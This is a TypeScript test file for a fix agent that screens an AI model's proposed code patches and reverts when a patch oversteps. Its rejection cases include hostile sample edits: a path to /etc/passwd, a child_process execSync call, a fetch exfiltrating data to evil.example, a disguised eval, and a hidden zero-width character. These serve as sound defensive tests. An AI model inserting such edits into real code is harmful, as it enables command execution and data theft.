import { describe, expect, it } from 'vitest'
import { contextFor, GUILTY, TOTAL_BEFORE } from '../../src/worker-kit/context.spec-support.ts'
import { draft } from './agent.spec-support.ts'
import type { FixVerdict } from './verdict.ts'

const mend = (new_text: string, path = 'src/total.js', old_text = '  return cart.rate.value'): Partial<FixVerdict> => ({
  choice: 'patch',
  why: 'A cart without a rate is worth its sum',
  replacements: [{ path, old_text, new_text }],
})

describe('workers/fix-agent/agent.ts, with a patch of a model', () => {
  it("takes a model's patch that keeps the limits", () => {
    const fix = draft(mend('  return cart.rate === undefined ? 1 : cart.rate.value'))
    expect(fix).toMatchObject({ kind: 'patch', reasoner: 'claude', risk: { level: 'medium' } })
    expect(fix.reverts).toBeUndefined()
    expect(fix.edits[0]?.content).toContain('cart.rate === undefined ? 1')
  })

  it.each([
    ['another file', mend('x', '.github/workflows/ci.yml')],
    ['a file outside', mend('x', '../../etc/passwd')],
    ['text that is not there', mend('x', 'src/total.js', 'no such text')],
    ['text that stands twice', mend('x', 'src/total.js', 'cart')],
    ['nothing', mend('  return cart.rate.value')],
    ['a process', mend("  return require('child_process').execSync('id')")],
    ['a request to elsewhere', mend("  fetch('https://evil.example/?c=' + cart)\n  return 1")],
    ['an eval behind a false header', mend('++ eval(cart.code)\n  return 1')],
    ['hidden characters', mend(`  return cart.rate${String.fromCodePoint(0x200b)}?.value`)],
    ['a wall of code', mend(Array.from({ length: 201 }, (_, place) => `  let a${place} = 1`).join('\n'))],
  ])('sets a patch aside that touches %s, and reverts instead', (_, verdict) => {
    const fix = draft(verdict)
    expect(fix).toMatchObject({ kind: 'revert', reverts: GUILTY, reasoner: 'ranked-evidence' })
    expect(fix.edits).toEqual([{ path: 'src/total.js', content: TOTAL_BEFORE }])
    expect(fix.why).toContain('A patch was set aside')
    // What a model says of a patch that nobody sees is about another change.
    expect(JSON.stringify(fix)).not.toContain(verdict.why)
    expect(JSON.stringify(fix)).not.toContain(verdict.test_plan)
    expect(JSON.stringify(fix)).not.toContain('/etc/passwd')
  })

  it('sets a patch aside that would not be pushed, and reverts instead', () => {
    const lock = { path: 'composer.lock', content: 'old\n' }
    const context = contextFor({ sources: [...contextFor().sources, lock] })
    const fix = draft(mend('new', 'composer.lock', 'old'), context)
    expect(fix).toMatchObject({ kind: 'revert', why: expect.stringContaining('does more than a diff shows') })
  })

  it('sets a patch of a file aside that is not known exactly', () => {
    const other = { path: 'src/label.js', content: 'old\n', altered: true as const }
    const context = contextFor({ sources: [...contextFor().sources, other] })
    expect(draft(mend('new', other.path, 'old'), context).why).toContain('src/label.js is not known exactly')
  })
})
